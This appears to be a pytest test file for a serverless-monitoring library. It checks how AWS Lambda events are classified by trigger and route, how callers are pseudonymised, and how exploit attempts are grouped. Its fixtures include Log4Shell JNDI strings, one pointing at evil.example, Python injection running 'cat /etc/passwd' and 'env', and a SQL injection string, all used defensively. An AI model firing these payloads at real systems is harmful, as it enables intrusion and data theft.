"""What an event and an answer say of themselves: every trigger, hostile bytes, and no data."""

from __future__ import annotations

import base64
import json
from collections.abc import Mapping

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dayfly.core.activity import MAX_READ_BYTES, MAX_ROUTE, Activity
from dayfly.core.proofs import FleetKey
from dayfly.testing.invocations import facts_of

KEY = FleetKey(bytes(range(32)))
ARN = "arn:aws:sqs:eu-west-1:123456789012:orders"


def read(event: object, *, headers: Mapping[str, str] | None = None, key: FleetKey | None = KEY) -> Activity:
    activity = Activity()
    activity.read_event(headers or {}, event if isinstance(event, bytes) else json.dumps(event).encode(), key)
    return activity


def rest(**more: object) -> dict[str, object]:
    event: dict[str, object] = {
        "resource": "/orders/{id}",
        "path": "/orders/17",
        "httpMethod": "GET",
        "headers": {"User-Agent": "curl/8"},
        "queryStringParameters": {"q": "shoes"},
        "pathParameters": {"id": "17"},
        "body": None,
        "requestContext": {"identity": {"sourceIp": "203.0.113.9"}, "resourcePath": "/orders/{id}"},
    }
    return event | more


def http(domain: str = "x.execute-api.eu-west-1.amazonaws.com", **more: object) -> dict[str, object]:
    event: dict[str, object] = {
        "version": "2.0",
        "routeKey": "POST /orders",
        "rawPath": "/orders",
        "headers": {"content-type": "application/json"},
        "body": '{"sku":"a"}',
        "requestContext": {
            "domainName": domain,
            "http": {"method": "POST", "sourceIp": "203.0.113.9", "path": "/orders"},
        },
    }
    return event | more


ALB = {
    "requestContext": {"elb": {"targetGroupArn": "arn"}},
    "httpMethod": "GET",
    "path": "/a",
    "headers": {"x-forwarded-for": "10.0.0.1, 203.0.113.9"},
    "queryStringParameters": {},
    "body": "",
}
EVENTS: list[tuple[object, str, str]] = [
    (rest(), "rest-api", "GET /orders/{id}"),
    (http(), "http-api", "POST /orders"),
    (http("abc.lambda-url.eu-west-1.on.aws", routeKey="$default"), "function-url", "POST $default"),
    (ALB, "alb", "GET"),
    ({"requestContext": {"connectionId": "c", "routeKey": "$connect"}}, "websocket", "$connect"),
    ({"Records": [{"eventSource": "aws:sqs", "eventSourceARN": ARN, "body": "{}"}]}, "sqs", "orders"),
    (
        {
            "Records": [
                {"EventSource": "aws:sns", "Sns": {"TopicArn": ARN.replace("sqs", "sns"), "Message": "m"}}
            ]
        },
        "sns",
        "orders",
    ),
    (
        {"Records": [{"eventSource": "aws:s3", "s3": {"bucket": {"name": "b-1"}, "object": {"key": "k"}}}]},
        "s3",
        "b-1",
    ),
    (
        {
            "Records": [
                {
                    "eventSource": "aws:dynamodb",
                    "eventSourceARN": "arn:aws:dynamodb:r:1:table/T/stream/2026",
                    "dynamodb": {"Keys": {"id": {"S": "1"}}},
                }
            ]
        },
        "dynamodb",
        "T",
    ),
    (
        {
            "Records": [
                {
                    "eventSource": "aws:kinesis",
                    "eventSourceARN": "arn:aws:kinesis:r:1:stream/s",
                    "kinesis": {"data": "e30="},
                }
            ]
        },
        "kinesis",
        "s",
    ),
    ({"eventSource": "aws:kafka", "records": {"t-0": [{"topic": "t", "value": "e30="}]}}, "kafka", "t"),
    (
        {"source": "shop", "detail-type": "Order Placed", "detail": {"id": "1"}},
        "eventbridge",
        "shop Order Placed",
    ),
    (
        {
            "source": "aws.events",
            "detail-type": "Scheduled Event",
            "resources": ["arn:aws:events:r:1:rule/nightly"],
            "detail": {},
        },
        "schedule",
        "nightly",
    ),
    ({"awslogs": {"data": "x"}}, "logs", ""),
    ({"triggerSource": "PreSignUp_SignUp", "request": {}}, "cognito", "PreSignUp_SignUp"),
    ({"a": 1}, "direct", ""),
    ([1, 2], "direct", ""),
    (None, "direct", ""),
    (b"", "unreadable", ""),
    (b"\xff\xfe", "unreadable", ""),
    (b"{", "unreadable", ""),
    (b"[" * 100_000, "unreadable", ""),
    (b'"' + b"a" * MAX_READ_BYTES + b'"', "large", ""),
]


@pytest.mark.parametrize(
    ("event", "trigger", "route"), EVENTS, ids=lambda value: value if isinstance(value, str) else ""
)
def test_every_trigger_is_known_with_its_route(event: object, trigger: str, route: str) -> None:
    activity = read(event)
    assert (activity.trigger, activity.route) == (trigger, route)
    assert activity.shape
    assert activity.pattern


def test_the_raw_path_is_no_route_and_no_fact() -> None:
    told = json.dumps(
        [
            facts_of(read(rest(path=f"/orders/{'4111111111111111'}"))),
            facts_of(read(http(rawPath="/4111111111111111"))),
        ]
    )
    assert "4111" not in told


def test_the_caller_is_the_same_by_every_road() -> None:
    found = {read(event).source for event in (rest(), http(), ALB)}
    assert len(found) == 1
    assert 0 not in found
    assert read({"a": 1}).source == 0
    assert read(rest(), key=None).source == 0


def test_what_a_caller_writes_before_a_load_balancers_word_does_not_count() -> None:
    spoofed = {**ALB, "headers": {"x-forwarded-for": "198.51.100.1, 203.0.113.9"}}
    assert read(spoofed).source == read(ALB).source


def test_an_ipv6_network_is_one_caller() -> None:
    def source(address: str) -> int:
        return read(rest(requestContext={"identity": {"sourceIp": address}})).source

    assert source("2001:db8:1:2::1") == source("2001:0db8:0001:0002:ffff::9") != source("2001:db8:1:3::1")
    assert source("not:an:address")


@pytest.mark.parametrize(
    "context",
    [
        {"authorizer": {"claims": {"sub": "u-1", "email": "a@b"}}},
        {"authorizer": {"jwt": {"claims": {"sub": "u-1"}}}},
        {"authorizer": {"principalId": "u-1"}},
        {"authorizer": {"lambda": {"userId": "u-1"}}},
        {"authorizer": {"iam": {"userArn": "u-1"}}},
        {"identity": {"userArn": "u-1"}},
        {"identity": {"cognitoIdentityId": "u-1"}},
    ],
)
def test_who_was_proved_to_call_is_known_by_a_pseudonym(context: dict[str, object]) -> None:
    activity = read(rest(requestContext=context))
    assert activity.principal == KEY.name("principal", "u-1")
    assert "u-1" not in json.dumps(facts_of(activity))


def test_a_cognito_identity_comes_in_a_header() -> None:
    found = read({}, headers={"lambda-runtime-cognito-identity": '{"cognitoIdentityId":"u-1"}'})
    assert found.principal == KEY.name("principal", "u-1")


def test_what_a_caller_claims_of_himself_is_no_principal() -> None:
    assert read(rest(headers={"x-user": "admin"}, requestContext={"authorizer": None})).principal == 0
    assert read({"requestContext": {"authorizer": {"claims": {"email": "a@b"}}}}).principal == 0


def test_clients_that_differ_only_in_their_headers_look_alike() -> None:
    agents = [
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15",
        "okhttp/4.12.0",
    ]
    found = {
        (activity.shape, activity.pattern)
        for agent in agents
        for activity in [
            read(
                rest(
                    headers={
                        "User-Agent": agent,
                        "Cookie": "a=b; c='d'",
                        "Sec-Ch-Ua": '"Chromium";v="140", "Not=A?Brand";v="24"',
                    }
                )
            )
        ]
    }
    assert len(found) == 1


@pytest.mark.parametrize("name", ["User-Agent", "X-Api-Version", "Referer"])
def test_an_exploit_in_a_header_is_a_pattern(name: str) -> None:
    def pattern(value: str) -> int:
        return read(rest(headers={name: value})).pattern

    assert (
        pattern("${jndi:ldap://203.0.113.7/a}")
        == pattern("${jndi:ldap://evil.example:1389/xyz}")
        != pattern("curl/8")
    )


def test_the_same_exploit_on_other_routes_has_another_shape_and_the_same_pattern() -> None:
    code = "__import__('os').system('{}')"
    one = read(rest(queryStringParameters={"q": code.format("id")}))
    other = read(http(body=json.dumps({"note": code.format("cat /etc/passwd")})))
    queue = read(
        {
            "Records": [
                {
                    "eventSource": "aws:sqs",
                    "eventSourceARN": ARN,
                    "body": json.dumps({"x": code.format("env")}),
                }
            ]
        }
    )
    assert one.pattern == other.pattern == queue.pattern != read(rest()).pattern
    assert len({one.shape, other.shape, queue.shape}) == 3


def test_bodies_are_read_in_every_encoding() -> None:
    exploit = "' OR '1'='1"
    plain = read(http(body=json.dumps({"q": exploit}))).pattern
    encoded = base64.b64encode(json.dumps({"q": exploit}).encode()).decode()
    assert read(http(body=encoded, isBase64Encoded=True)).pattern == plain
    form = {"content-type": "application/x-www-form-urlencoded"}
    assert read(http(headers=form, body="q=%27+OR+%271%27%3D%271&page=2")).pattern == plain
    assert read(http(body=base64.b64encode(b"\xff\x00").decode(), isBase64Encoded=True)).shape


def test_messages_of_a_queue_are_the_same_whatever_the_platform_numbers() -> None:
    def record(number: int) -> dict[str, object]:
        return {
            "eventSource": "aws:sqs",
            "eventSourceARN": ARN,
            "messageId": str(number),
            "receiptHandle": f"AQ{number}",
            "attributes": {"SentTimestamp": str(number)},
            "body": '{"order":17}',
        }

    one, other = read({"Records": [record(1)]}), read({"Records": [record(2)]})
    assert (one.shape, one.subject, one.pattern) == (other.shape, other.subject, other.pattern)


@pytest.mark.parametrize(
    ("answer", "status"),
    [
        ({"statusCode": 404}, 404),
        ({"statusCode": "503"}, 503),
        ({"statusCode": True}, 0),
        ({"statusCode": 99}, 0),
        ({"statusCode": 10**30}, 0),
        ({"body": "x"}, 0),
        ([], 0),
        ("x", 0),
    ],
)
def test_the_status_is_the_answers(answer: object, status: int) -> None:
    activity = read(rest())
    body = json.dumps(answer).encode()
    activity.read_answer(body, length=len(body), is_result=True)
    assert (activity.status, activity.bytes_out) == (status, len(body))
    queue = read({"a": 1})
    queue.read_answer(body, length=len(body), is_result=True)
    assert queue.status == 0


def test_an_http_api_makes_200_of_an_answer_without_a_status() -> None:
    activity = read(http())
    activity.read_answer(b'{"ok":true}', length=11, is_result=True)
    assert activity.status == 200


def test_a_large_answer_is_not_parsed() -> None:
    activity = read(rest())
    # Cut off: a parser finds no status.
    body = b'{"statusCode":418,"body":"' + b"a" * (5 << 20)
    activity.read_answer(body, length=len(body), is_result=True)
    assert activity.status == 418


@pytest.mark.parametrize(
    "body", [b"", b"\xff", b"[" * 200_000, b'{"statusCode":' + b"9" * 5000 + b"}", b"NaN"]
)
def test_no_answer_is_an_error(body: bytes) -> None:
    for event in (rest(), http()):
        activity = read(event)
        activity.read_answer(body, length=len(body), is_result=True)
        assert activity.status in (0, 200)


ANY = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.text(max_size=30)
    | st.sampled_from(["aws:sqs", "GET", "$default", "true"]),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                """requestContext httpMethod resource routeKey http identity authorizer claims jwt lambda iam Records eventSource
            EventSource Sns s3 dynamodb kinesis body isBase64Encoded headers multiValueHeaders queryStringParameters
            pathParameters elb connectionId detail-type source resources records triggerSource awslogs deliveryStreamArn data
            value eventSourceARN bucket object sourceIp domainName content-type requestParameters rawPath path""".split()
            ),
            inner,
            max_size=5,
        )
    ),
    max_leaves=30,
)


@given(ANY, st.booleans())
def test_no_event_is_an_error_and_every_fact_is_in_bounds(event: object, is_keyed: bool) -> None:
    activity = read(event, key=KEY if is_keyed else None)
    facts = facts_of(activity)
    assert len(str(facts["route"])) <= MAX_ROUTE
    assert str(facts["route"]).isascii()
    json.dumps(facts).encode()
    activity.read_answer(b"{}", length=2, is_result=True)


@given(st.binary(max_size=300))
def test_no_bytes_are_an_error(data: bytes) -> None:
    read(data)
